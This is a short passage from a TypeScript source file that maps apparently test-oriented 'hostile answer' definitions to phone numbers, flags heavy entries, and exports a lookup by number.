  return { ...definition, e164, raw, heavy: definition.heavy ?? definition.group === 'huge' };
}

if (definitions.length > maxAnswers) throw new Error('more hostile answers than numbers for them');

export const hostileAnswers: readonly HostileAnswer[] = definitions.map(build);

export const hostileAnswerFor = (e164: string) =>
  hostileAnswers.find((answer) => answer.e164 === e164);
